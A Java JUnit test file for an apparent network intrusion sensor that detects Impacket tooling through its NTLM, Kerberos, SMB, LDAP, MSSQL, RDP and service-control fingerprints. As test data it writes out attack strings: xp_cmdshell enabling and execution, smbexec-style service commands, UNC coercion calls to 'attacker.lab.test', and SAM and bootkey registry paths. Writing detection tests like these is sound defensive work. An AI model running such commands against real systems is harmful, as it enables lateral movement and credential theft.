package io.impacketsensor.detection;

import io.impacketsensor.core.event.Carrier;
import io.impacketsensor.core.event.DcerpcEvent;
import io.impacketsensor.core.event.RpcArgs;
import io.impacketsensor.core.event.KerberosEvent;
import io.impacketsensor.core.event.LdapEvent;
import io.impacketsensor.core.event.MssqlEvent;
import io.impacketsensor.core.event.NtlmEvent;
import io.impacketsensor.core.event.RdpEvent;
import io.impacketsensor.core.event.RpcInterfaces;
import io.impacketsensor.core.event.SensorEvent;
import io.impacketsensor.core.event.SmbEvent;
import io.impacketsensor.detection.rules.DataRuleIndex;
import io.impacketsensor.detection.rules.EventKind;
import io.impacketsensor.detection.rules.LdapFilterShape;
import io.impacketsensor.detection.rules.MssqlBatchShape;
import io.impacketsensor.detection.rules.RuleCatalog;
import io.impacketsensor.detection.rules.SmbFileShape;
import org.junit.jupiter.api.Test;

import java.util.ArrayList;
import java.util.List;
import java.util.UUID;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertSame;

/**
 * The decoded fields the NTLM, SMB negotiate, admin-share and LDAP filter rules are written over, and
 * that those rules keep the Java checks' alternatives (a removed MIC is not also "no MIC"; a search
 * for SPNs of users is not also one of any account). Synthetic typed events standing for what the
 * decoders produce.
 */
class DataFieldsTest {
    private static final String ATK = "10.8.0.66";
    private static final String SRV = "10.8.0.10";
    private static final int SIGN = 0x10;
    private final Harness h = new Harness();
    private final DataRuleIndex anomaly = RuleCatalog.builtin().dataRuleIndex("anomaly");

    private NtlmEvent.NtlmAuthenticate auth(Carrier carrier, int flags, int version, String workstation, boolean mic,
                                            int avFlags, boolean anonymous) {
        return new NtlmEvent.NtlmAuthenticate(h.h(ATK, SRV, 445, 0), carrier, flags, 24, version == 2 ? 300 : 24,
                version, "LAB", "alice", workstation, true, null, mic, avFlags, "", new byte[16], new byte[8], anonymous, 0);
    }

    private List<String> matched(SensorEvent ev) {
        List<String> out = new ArrayList<>();
        for (DataRuleIndex.Entry e : anomaly.candidates(EventKind.of(ev), RpcInterfaces.UNKNOWN)) {
            if (e.matches(ev)) {
                out.add(e.rule().rule().name());
            }
        }
        return out;
    }

    @Test
    void ntlmMicVersionAndFlagsDecideTheNtlmRules() {
        int flags = 0xE2088215; // signing negotiated
        // Impacket's AUTHENTICATE: NTLMv2, no MIC, no MsvAvFlags, no VERSION, empty workstation, no signing.
        assertEquals(List.of("ntlm_no_mic", "ntlm_no_signing", "impacket_ntlm_client"),
                matched(auth(Carrier.SMB2, flags & ~SIGN, 2, "", false, -1, false)));
        // MsvAvFlags announces a MIC that is not there: removed, and not also "without MIC".
        assertEquals(List.of("ntlm_mic_removed"), matched(auth(Carrier.SMB2, flags, 2, "WS01", false, 0x2, false)));
        // MsvAvFlags without the MIC bit and no MIC: without MIC, but not Impacket's (it sends no MsvAvFlags).
        assertEquals(List.of("ntlm_no_mic"), matched(auth(Carrier.SMB2, flags, 2, "", false, 0x0, false)));
        assertEquals(List.of(), matched(auth(Carrier.SMB2, flags, 2, "WS01", true, 0x2, false)));
        // NTLMv1 by name (the indicator quotes the user); anonymous logons raise nothing.
        assertEquals(List.of("ntlmv1"), matched(auth(Carrier.SMB2, flags, 1, "WS01", true, -1, false)));
        assertEquals(List.of(), matched(auth(Carrier.SMB2, 0, 1, "", false, -1, true)));
        // An SMB1 login without extended security has no NTLMSSP message: only its response version counts.
        assertEquals(List.of("ntlmv1"), matched(auth(Carrier.SMB1, 0, 1, "", false, -1, false)));
        assertEquals("NTLMv1 authentication by alice", RuleCatalog.builtin().dataRules().stream()
                .filter(d -> d.rule().name().equals("ntlmv1")).findFirst().orElseThrow()
                .indicator(auth(Carrier.SMB2, flags, 1, "WS01", true, -1, false)));
    }

    /**
     * Impacket's SASL LDAP bind: a MIC without MsvAvFlags (Windows and Samba send MsvAvFlags 0x2 with a MIC), and a
     * BindRequest message id drawn at random where other clients count from 1.
     */
    @Test
    void impacketLdapBindFingerprints() {
        int flags = 0xE2898235; // current Impacket's SASL NEGOTIATE flags, signing and sealing
        assertEquals(List.of("impacket_ntlm_mic_without_av_flags"), matched(auth(Carrier.LDAP, flags, 2, "", true, -1, false)));
        // Windows and Samba: MIC with MsvAvFlags 0x2; a MIC with other MsvAvFlags is not Impacket's either.
        assertEquals(List.of(), matched(auth(Carrier.LDAP, flags, 2, "WS01", true, 0x2, false)));
        assertEquals(List.of(), matched(auth(Carrier.LDAP, flags, 2, "WS01", true, 0x0, false)));
        // Anonymous and NTLMv1 logons are judged by their own rules.
        assertEquals(List.of(), matched(auth(Carrier.LDAP, flags, 2, "", true, -1, true)));
        assertEquals(List.of("ntlmv1"), matched(auth(Carrier.LDAP, flags, 1, "", true, -1, false)));

        assertEquals(List.of("impacket_ldap_random_message_id"), matched(bind(1444982388)));
        assertEquals(List.of("impacket_ldap_random_message_id"), matched(bind(1000000)));
        assertEquals(List.of(), matched(bind(999999)));
        assertEquals(List.of(), matched(bind(1)));
        assertEquals("LDAP bind with message id 1444982388 (Impacket's LDAP client draws message ids at random; its "
                + "operations after a sealed bind are not visible)", RuleCatalog.builtin().dataRules().stream()
                .filter(d -> d.rule().name().equals("impacket_ldap_random_message_id")).findFirst().orElseThrow()
                .indicator(bind(1444982388)));
    }

    private LdapEvent.LdapBind bind(int messageId) {
        return new LdapEvent.LdapBind(h.h(ATK, SRV, 389, 0), messageId, 3, "", LdapEvent.BindType.SASL, "GSS-SPNEGO",
                false, 0, null);
    }

    @Test
    void impacketNegotiateFlagsWithoutVersion() {
        NtlmEvent.NtlmNegotiate signing = new NtlmEvent.NtlmNegotiate(h.h(ATK, SRV, 445, 0), Carrier.SMB2, 0xE0888235, "", "",
                null);
        NtlmEvent.NtlmNegotiate plain = new NtlmEvent.NtlmNegotiate(h.h(ATK, SRV, 389, 0), Carrier.LDAP, 0xA0880205, "", "",
                null);
        NtlmEvent.NtlmNegotiate windows = new NtlmEvent.NtlmNegotiate(h.h(ATK, SRV, 445, 0), Carrier.SMB2, 0xE0888235, "", "",
                new NtlmEvent.Version(10, 0, 19041, 15));
        assertEquals(List.of("impacket_ntlm_negotiate_signing"), matched(signing));
        assertEquals(List.of("impacket_ntlm_negotiate"), matched(plain));
        assertEquals(List.of(), matched(windows));
    }

    @Test
    void smbNegotiateFingerprintsAndAdminShares() {
        byte[] letters = "AbCdEfGhIjKlMnOp".getBytes(java.nio.charset.StandardCharsets.US_ASCII);
        byte[] random = new byte[16];
        random[3] = 7;
        assertEquals(List.of("impacket_smb_client_guid"), matched(negotiate(letters)));
        assertEquals(List.of(), matched(negotiate(random)));
        assertEquals(List.of("impacket_smb1_dialects"), matched(new SmbEvent.Smb1Negotiate(h.h(ATK, SRV, 445, 0),
                List.of("NT LM 0.12", "SMB 2.002", "SMB 2.???"))));
        assertEquals(List.of(), matched(new SmbEvent.Smb1Negotiate(h.h(ATK, SRV, 445, 0),
                List.of("PC NETWORK PROGRAM 1.0", "NT LM 0.12", "SMB 2.002", "SMB 2.???"))));
        assertEquals(List.of("admin_share_admin"), matched(h.tree(ATK, SRV, 0, "ADMIN$")));
        assertEquals(List.of("admin_share_other"), matched(h.tree(ATK, SRV, 0, "C$")));
        assertEquals(List.of(), matched(h.tree(ATK, SRV, 0, "IPC$")));
        // A refused tree connect (STATUS_ACCESS_DENIED) is no access.
        assertEquals(List.of(), matched(new SmbEvent.SmbTreeConnect(h.h(ATK, SRV, 445, 0), 1, 0, "C$", -1,
                0xC0000022L)));
        assertEquals("Admin share access: C$", RuleCatalog.builtin().dataRules().stream()
                .filter(d -> d.rule().name().equals("admin_share_other")).findFirst().orElseThrow()
                .indicator(h.tree(ATK, SRV, 0, "C$")));
    }

    private SmbEvent.Smb2Negotiate negotiate(byte[] clientGuid) {
        return new SmbEvent.Smb2Negotiate(h.h(ATK, SRV, 445, 0), List.of(0x202, 0x210), 0x210, 1, 0, clientGuid, 1, 0,
                new byte[16], 0, List.of(), 0, null, List.of(), 0);
    }

    @Test
    void kerberosEtypesPreauthAndServiceClassDecideTheKerberosRules() {
        KerberosEvent.PrincipalName alice = Harness.pn(1, "alice");
        // getTGT with the NT hash: only rc4-hmac, RC4 pre-authentication, Impacket's kdc-options.
        assertEquals(List.of("overpass_the_hash", "impacket_as_req"), matched(h.krbReq(ATK, SRV, 0, 10, List.of(2), 23,
                0x50800000, alice, Harness.pn(2, "krbtgt", "LAB.LOCAL"), List.of(23), null)));
        // Only weak etypes without the RC4 pre-authentication shape: weak, not overpass-the-hash.
        KerberosEvent.KerberosRequest des = h.krbReq(ATK, SRV, 0, 10, List.of(), -1, 0x40810010, alice,
                Harness.pn(2, "krbtgt", "LAB.LOCAL"), List.of(3, 1), null);
        assertEquals(List.of("weak_kerberos_etype_as"), matched(des));
        assertEquals("Weak Kerberos encryption requested: des-cbc-md5 only", indicator("weak_kerberos_etype_as", des));
        // TGS-REQ: rc4 first for a user service, not for a computer service class; krbtgt by name type or not.
        assertEquals(List.of("weak_kerberos_etype_tgs"), matched(h.krbReq(ATK, SRV, 0, 12, List.of(1), -1, 0x40810000,
                null, Harness.pn(2, "MSSQLSvc", "sql.lab.local"), List.of(23, 18), null)));
        assertEquals(List.of(), matched(h.krbReq(ATK, SRV, 0, 12, List.of(1), -1, 0x40810000, null,
                Harness.pn(2, "cifs", "srv.lab.local"), List.of(23, 18), null)));
        assertEquals(List.of("krbtgt_tgs_request"), matched(h.krbReq(ATK, SRV, 0, 12, List.of(1), -1, 0x40810000, null,
                Harness.pn(2, "krbtgt", "LAB.LOCAL"), List.of(18, 17), null)));
        // S4U2self: a privileged impersonation, or any other, never both.
        assertEquals(List.of("s4u2self_privileged"), matched(h.krbReq(ATK, SRV, 0, 12, List.of(1, 129), -1, 0x40810000,
                null, Harness.pn(1, "websvc"), List.of(18), "Administrator")));
        assertEquals(List.of("s4u2self"), matched(h.krbReq(ATK, SRV, 0, 12, List.of(1, 129), -1, 0x40810000, null,
                Harness.pn(1, "websvc"), List.of(18), "bob")));
        // AS-REP to an AS-REQ without PA-ENC-TIMESTAMP: roastable, the RC4 answer more so.
        KerberosEvent.KerberosRequest noPreauth = h.krbReq(ATK, SRV, 0, 10, List.of(128), -1, 0x50800000, alice,
                Harness.pn(2, "krbtgt", "LAB.LOCAL"), List.of(23), null);
        KerberosEvent.KerberosReply asRep = new KerberosEvent.KerberosReply(h.h(SRV, ATK, 88, 0), 11, "LAB.LOCAL", alice,
                new KerberosEvent.TicketInfo("LAB.LOCAL", Harness.pn(2, "krbtgt", "LAB.LOCAL"), 18, 2, 0), 23, noPreauth);
        assertEquals(List.of("asrep_roasting_rc4"), matched(asRep));
        assertEquals("AS-REP for alice answering an AS-REQ without pre-authentication, rc4-hmac enc-part",
                indicator("asrep_roasting_rc4", asRep));
        // TGS-REP with an RC4 ticket for a user account's SPN (Kerberoasting's harvest), not for a computer account.
        KerberosEvent.KerberosReply tgsRep = new KerberosEvent.KerberosReply(h.h(SRV, ATK, 88, 0), 13, "LAB.LOCAL", alice,
                new KerberosEvent.TicketInfo("LAB.LOCAL", Harness.pn(2, "MSSQLSvc", "sql.lab.local"), 23, 2, 0), 18, null);
        assertEquals(List.of("weak_kerberos_ticket"), matched(tgsRep));
        assertEquals(List.of(), matched(new KerberosEvent.KerberosReply(h.h(SRV, ATK, 88, 0), 13, "LAB.LOCAL", alice,
                new KerberosEvent.TicketInfo("LAB.LOCAL", Harness.pn(1, "SQL01$"), 23, 2, 0), 18, null)));
        // The KDC's side alone (lab atk_GetNPUsers_compat, one-way:server): Heimdal's AS-REP to an AS-REQ
        // without pre-authentication lists the methods it accepts; after pre-authentication only
        // PA-ETYPE-INFO2. With the request captured the request's own rules decide.
        List<Integer> methods = List.of(16, 15, 147, 2, 136, 655, 19, 11);
        KerberosEvent.TicketInfo tgt = new KerberosEvent.TicketInfo("LAB.LOCAL", Harness.pn(2, "krbtgt", "LAB.LOCAL"), 18, 2, 0);
        assertEquals(List.of("asrep_roasting_reply_only_rc4"), matched(new KerberosEvent.KerberosReply(h.h(SRV, ATK, 88, 0),
                11, "LAB.LOCAL", Harness.pn(1, "roast_me"), tgt, 23, null, methods)));
        assertEquals(List.of("asrep_roasting_reply_only"), matched(new KerberosEvent.KerberosReply(h.h(SRV, ATK, 88, 0),
                11, "LAB.LOCAL", Harness.pn(1, "roast_me"), tgt, 18, null, methods)));
        assertEquals(List.of(), matched(new KerberosEvent.KerberosReply(h.h(SRV, ATK, 88, 0), 11, "LAB.LOCAL", alice,
                tgt, 23, null, List.of(19))));
        assertEquals(List.of("asrep_roasting_rc4"), matched(new KerberosEvent.KerberosReply(h.h(SRV, ATK, 88, 0), 11,
                "LAB.LOCAL", alice, tgt, 23, noPreauth, methods)));
        // A TGS-REP whose ticket names a user account by NT-ENTERPRISE (the KDC copies the requested name):
        // GetUserSPNs' request, seen in the answer; an NT-SRV-INST SPN or a computer account is not.
        KerberosEvent.KerberosReply roasted = new KerberosEvent.KerberosReply(h.h(SRV, ATK, 88, 0), 13, "LAB.LOCAL", alice,
                new KerberosEvent.TicketInfo("LAB.LOCAL", Harness.pn(10, "svc_sql"), 23, 2, 0), 23, null);
        assertEquals(List.of("weak_kerberos_ticket", "kerberoasting_reply_only"), matched(roasted));
        assertEquals("TGS-REP ticket for svc_sql names its service by account, rc4-hmac: the TGS-REQ (not captured) asked "
                + "a user account's ticket", indicator("kerberoasting_reply_only", roasted));
        assertEquals(List.of(), matched(new KerberosEvent.KerberosReply(h.h(SRV, ATK, 88, 0), 13, "LAB.LOCAL", alice,
                new KerberosEvent.TicketInfo("LAB.LOCAL", Harness.pn(10, "SQL01$"), 23, 2, 0), 18, null)));
        assertEquals(List.of("weak_kerberos_ticket"), matched(new KerberosEvent.KerberosReply(h.h(SRV, ATK, 88, 0), 13,
                "LAB.LOCAL", alice, new KerberosEvent.TicketInfo("LAB.LOCAL", Harness.pn(10, "svc_sql"), 23, 2, 0), 23,
                h.krbReq(ATK, SRV, 0, 12, List.of(1), -1, 0x40810000, null, Harness.pn(10, "svc_sql"), List.of(23), null))));
        // An SVCCTL answer whose request the copy lacks: shaped as RCreateService*'s, or only a status.
        java.util.UUID svcctl = io.impacketsensor.core.event.RpcInterfaces.uuid(io.impacketsensor.core.event.RpcInterfaces.SVCCTL);
        assertEquals(List.of("service_created_reply_only"), matched(new io.impacketsensor.core.event.DcerpcEvent.DcerpcResponse(
                h.h(ATK, SRV, 445, 0), "ntsvcs", 3, svcctl, -1, false, 28, new io.impacketsensor.core.event.RpcArgs.ScmCreateServiceAnswer())));
        assertEquals(List.of(), matched(new io.impacketsensor.core.event.DcerpcEvent.DcerpcResponse(h.h(ATK, SRV, 445, 0),
                "ntsvcs", 3, svcctl, -1, false, 24, new io.impacketsensor.core.event.RpcArgs.ReturnStatus(0))));
    }

    private List<String> signatures(SensorEvent ev) {
        List<String> out = new ArrayList<>();
        int iface = ev instanceof DcerpcEvent.DcerpcRequest r ? RpcInterfaces.indexOf(r.interfaceUuid()) : RpcInterfaces.UNKNOWN;
        for (DataRuleIndex.Entry e : RuleCatalog.builtin().dataRuleIndex("signature").candidates(EventKind.of(ev), iface)) {
            if (e.matches(ev)) {
                out.add(e.rule().rule().name());
            }
        }
        return out;
    }

    @Test
    void fileNameShapesOnAdminSharesKeepTheirAlternatives() {
        assertEquals(SmbFileShape.OUTPUT_FILE | SmbFileShape.OUTPUT_PREFIX | SmbFileShape.NO_EXTENSION,
                SmbFileShape.of("__output_AbCdEfGh"));
        assertEquals(List.of("smbexec_output_file"), signatures(h.read(ATK, SRV, 0, "C$", "__output_AbCdEfGh")));
        assertEquals(List.of("dcomexec_output_file"), signatures(h.read(ATK, SRV, 0, "ADMIN$", "__12345")));
        assertEquals(List.of("wmiexec_output_file"), signatures(new SmbEvent.SmbRead(h.h(ATK, SRV, 445, 0), 1, 1, "",
                "__1700000000.123", false, 0, 4096, 100, 0)));
        assertEquals(List.of(), signatures(h.read(ATK, SRV, 0, "Users", "__1700000000.123")));
        // A saved hive under System32 is not also the Temp file that atexec and secretsdump share.
        assertEquals(List.of("secretsdump_tmp_file_system32"), signatures(h.read(ATK, SRV, 0, "ADMIN$",
                "System32\\AbCdEfGh.tmp")));
        assertEquals(List.of("secretsdump_tmp_file", "atexec_tmp_file"), signatures(h.read(ATK, SRV, 0, "ADMIN$",
                "Temp\\AbCdEfGh.tmp")));
        // An executable written (not read) to an admin share; psexec's random name scores higher.
        assertEquals(List.of("admin_share_exe_random"), signatures(h.create(ATK, SRV, 0, "ADMIN$", "AbCdEfGh.exe",
                false, true)));
        assertEquals(List.of("admin_share_exe"), signatures(h.create(ATK, SRV, 0, "C$", "tools\\setup.exe", false,
                true)));
        assertEquals(List.of(), signatures(h.read(ATK, SRV, 0, "C$", "tools\\setup.exe")));
    }

    private MssqlEvent.MssqlBatch batch(String text) {
        return new MssqlEvent.MssqlBatch(h.h(ATK, SRV, 1433, 0), text, false);
    }

    @Test
    void sqlBatchShapesTellCommandsFromOptionNamesAndFindTheUncHost() {
        // What mssqlclient.py sends (its enable_xp_cmdshell, xp_cmdshell and a file procedure on a UNC path).
        String enable = "exec master.dbo.sp_configure 'show advanced options',1;RECONFIGURE;"
                + "exec master.dbo.sp_configure 'xp_cmdshell', 1;RECONFIGURE;";
        assertEquals(MssqlBatchShape.XP_CMDSHELL_ENABLE, MssqlBatchShape.of(enable));
        assertEquals(List.of("mssql_xp_cmdshell_enable"), signatures(batch(enable)));
        assertEquals(List.of("mssql_xp_cmdshell"), signatures(batch("exec master..xp_cmdshell 'whoami'\r\n")));
        assertEquals(MssqlBatchShape.XP_CMDSHELL, MssqlBatchShape.of("EXEC [master].[sys].[XP_CMDSHELL] N'dir'"));
        // Turning it off, reading its setting, or a longer name is neither.
        assertEquals(0, MssqlBatchShape.of("EXEC sp_configure 'xp_cmdshell', 0; RECONFIGURE"));
        assertEquals(0, MssqlBatchShape.of("EXEC sp_configure 'xp_cmdshell'"));
        assertEquals(MssqlBatchShape.XP_CMDSHELL_ENABLE,
                MssqlBatchShape.of("EXEC sp_configure @configname = 'xp_cmdshell', @configvalue = 1"));
        assertEquals(0, MssqlBatchShape.of("select * from my_xp_cmdshell_log"));
        // A file procedure on a UNC path names the host the server will authenticate to.
        String dirtree = "EXEC master..xp_dirtree '\\\\10.99.0.2\\share'\r\n";
        assertEquals(MssqlBatchShape.UNC_FILE_PROCEDURE, MssqlBatchShape.of(dirtree));
        assertEquals("\\\\10.99.0.2\\share", MssqlBatchShape.path(dirtree));
        assertEquals("10.99.0.2", MssqlBatchShape.host(dirtree));
        assertEquals("xp_dirtree", MssqlBatchShape.procedure(dirtree));
        assertEquals(List.of("coercion_mssql_unc_path"), signatures(batch(dirtree)));
        assertEquals(List.of("coercion_mssql_unc_path"), signatures(batch(
                "EXEC master.dbo.xp_fileexist N'\\\\attacker.lab.test\\share\\report.xlsx'")));
        assertEquals("attacker.lab.test", MssqlBatchShape.host("exec xp_subdirs '//attacker.lab.test/s/'"));
        // Local paths and a path in another argument are not coercion.
        assertEquals(0, MssqlBatchShape.of("EXEC xp_dirtree 'C:\\Program Files', 1, 1"));
        assertEquals(0, MssqlBatchShape.of("EXEC xp_fileexist @path"));
        assertNull(MssqlBatchShape.host("EXEC xp_dirtree 'C:\\temp'"));
        assertEquals(List.of(), signatures(batch("select @@version")));
    }

    @Test
    void serviceBinaryPathShapesDecideTheServiceRules() {
        UUID svcctl = RpcInterfaces.uuid(RpcInterfaces.SVCCTL);
        String smbexec = "%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat";
        assertEquals(List.of("smbexec_service_shell_command"), signatures(h.rpc(ATK, SRV, 0, "svcctl", svcctl, 12,
                new RpcArgs.ScmCreateService("AbCdEfGh", "AbCdEfGh", smbexec, 16, 3, 0xF01FF))));
        assertEquals(List.of("psexec_random_service"), signatures(h.rpc(ATK, SRV, 0, "svcctl", svcctl, 12,
                new RpcArgs.ScmCreateService("AbCd", "AbCd", "%SystemRoot%\\AbCdEfGh.exe", 16, 3, 0xF01FF))));
        assertEquals(List.of("smbexec_random_service_shell"), signatures(h.rpc(ATK, SRV, 0, "svcctl", svcctl, 12,
                new RpcArgs.ScmCreateService("AbCdEfGh", "AbCdEfGh", "powershell -enc AAAA", 16, 3, 0xF01FF))));
        assertEquals(List.of("smbexec_binary_path_changed"), signatures(h.rpc(ATK, SRV, 0, "svcctl", svcctl, 11,
                new RpcArgs.ScmChangeServiceConfig(16, 3, smbexec))));
        assertEquals(List.of("impacket_scmr_dummy"), signatures(h.rpc(ATK, SRV, 0, "svcctl", svcctl, 15,
                new RpcArgs.ScmOpenManager("DUMMY", "ServicesActive", 0xF003F))));
        assertEquals("Service with a random 4-letter name running a random 8-letter .exe: AbCd -> %SystemRoot%\\AbCdEfGh.exe",
                indicator("psexec_random_service", h.rpc(ATK, SRV, 0, "svcctl", svcctl, 12,
                        new RpcArgs.ScmCreateService("AbCd", "AbCd", "%SystemRoot%\\AbCdEfGh.exe", 16, 3, 0xF01FF))));
    }

    @Test
    void registryKeysSavesAndAtJobs() {
        UUID winreg = RpcInterfaces.uuid(RpcInterfaces.WINREG);
        assertEquals(List.of("secretsdump_bootkey"), signatures(h.rpc(ATK, SRV, 0, "winreg", winreg, 15,
                new RpcArgs.RegOpenKey(false, "SYSTEM\\CurrentControlSet\\Control\\Lsa\\JD"))));
        assertEquals(List.of("secretsdump_hive"), signatures(h.rpc(ATK, SRV, 0, "winreg", winreg, 15,
                new RpcArgs.RegOpenKey(false, "SAM\\SAM\\Domains\\Account"))));
        assertEquals(List.of(), signatures(h.rpc(ATK, SRV, 0, "winreg", winreg, 15,
                new RpcArgs.RegOpenKey(false, "SOFTWARE\\Microsoft"))));
        // The key path is quoted when the save names it, left out when it does not.
        assertEquals("Registry hive saved to a file: SAM -> AbCdEfGh.tmp", indicator("secretsdump_savekey",
                h.rpc(ATK, SRV, 0, "winreg", winreg, 20, new RpcArgs.RegSaveKey("AbCdEfGh.tmp", "SAM"))));
        assertEquals("Registry hive saved to a file: AbCdEfGh.tmp", indicator("secretsdump_savekey",
                h.rpc(ATK, SRV, 0, "winreg", winreg, 20, new RpcArgs.RegSaveKey("AbCdEfGh.tmp", null))));
        // A save whose arguments were not decoded (sealed) is not judged.
        assertEquals(List.of(), signatures(h.rpc(ATK, SRV, 0, "winreg", winreg, 20, null)));
        assertEquals(List.of("atsvc_job"), signatures(h.rpc(ATK, SRV, 0, "atsvc", RpcInterfaces.uuid(RpcInterfaces.ATSVC), 0,
                new RpcArgs.AtJobAdd("cmd.exe /C whoami > C:\\Windows\\Temp\\x.tmp"))));
    }

    private String indicator(String rule, SensorEvent ev) {
        return RuleCatalog.builtin().dataRules().stream().filter(d -> d.rule().name().equals(rule)).findFirst().orElseThrow()
                .indicator(ev);
    }

    private LdapEvent.LdapSearch search(String filter) {
        return new LdapEvent.LdapSearch(h.h(ATK, SRV, 389, 0), 2, "DC=lab,DC=local", 2, 0, 0, 0, false, filter, List.of(),
                List.of(), 0, 0, 1, false);
    }

    @Test
    void ldapFilterShapesKeepTheirAlternatives() {
        assertEquals(LdapFilterShape.SPN_USERS, LdapFilterShape.of("(&(servicePrincipalName=*)(objectCategory=person))"));
        assertEquals(LdapFilterShape.SPN_ANY, LdapFilterShape.of("(servicePrincipalName=*)"));
        assertEquals(LdapFilterShape.UNBALANCED, LdapFilterShape.of("(&(cn=a)"));
        assertEquals(LdapFilterShape.TRAILING_FILTER, LdapFilterShape.of("(cn=a)(cn=b)"));
        assertEquals(0, LdapFilterShape.of("(objectClass=*)"));
        assertEquals(0, LdapFilterShape.of(null));
        String powerView = "(&(objectCategory=group)(|(samAccountName=Domain Admins)))";
        assertEquals(LdapFilterShape.POWERVIEW_IDENTITY | LdapFilterShape.PRIVILEGED_GROUP, LdapFilterShape.of(powerView));
        assertEquals(List.of("ldap_powerview_filter", "ldap_privileged_group_query"), matched(search(powerView)));
        // The group is one of the constant names: quoting it in an indicator copies nothing per event.
        assertSame(LdapFilterShape.privilegedGroup("(cn=Domain Admins)"), LdapFilterShape.privilegedGroup(powerView));
        assertNull(LdapFilterShape.privilegedGroup("(cn=Domain Users)"));
        assertEquals(List.of("ldap_spn_query_users", "ldap_no_preauth_query"), matched(search(
                "(&(servicePrincipalName=*)(samAccountType=805306368)(userAccountControl:1.2.840.113556.1.4.803:=4194304))")));
        assertEquals("Privileged group looked up: Domain Admins in " + powerView, RuleCatalog.builtin().dataRules().stream()
                .filter(d -> d.rule().name().equals("ldap_privileged_group_query")).findFirst().orElseThrow()
                .indicator(search(powerView)));
    }

    private RdpEvent.RdpTlsHandshake rdpTls(String cookie, int anonymous, String serverName) {
        RdpEvent.RdpConnectRequest q = new RdpEvent.RdpConnectRequest(h.h(ATK, SRV, 3389, 0), 0, cookie, null, 3, 0,
                false, 0);
        RdpEvent.ClientHello hello = new RdpEvent.ClientHello(0x0303, List.of(0x1302), List.of(0), List.of(), List.of(),
                List.of(), serverName, anonymous, "771,4866,0,,", "29ac2b569a4b1d4d5e5782c1b50dd9d0");
        return new RdpEvent.RdpTlsHandshake(h.h(ATK, SRV, 3389, 0), 2, q, 2, hello, 0x0304, 0x1302, List.of());
    }

    @Test
    void rdpCheckNeedsBothTheMissingCookieAndTheAnonymousSuites() {
        // rdp_check.py (lab atk_rdp_check): no cookie, 13 anonymous suites, no server_name.
        assertEquals(List.of("impacket_rdp_check"), matched(rdpTls(null, 13, "")));
        // xfreerdp (lab ben_rdp_xfreerdp): cookie, no anonymous suite, server_name.
        assertEquals(List.of(), matched(rdpTls("alice", 0, "dc1.lab.test")));
        // One of the two alone is not the script.
        assertEquals(List.of(), matched(rdpTls("alice", 13, "")));
        assertEquals(List.of(), matched(rdpTls(null, 0, "")));
        // The request alone (before the ClientHello) is not judged.
        assertEquals(List.of(), matched(rdpTls(null, 13, "").request()));
        assertEquals("RDP connection without cookie whose TLS ClientHello offers cipher suites without server "
                + "authentication (Impacket rdp_check.py; JA3 29ac2b569a4b1d4d5e5782c1b50dd9d0, requestedProtocols 3)",
                indicator("impacket_rdp_check", rdpTls(null, 13, "")));
    }
}
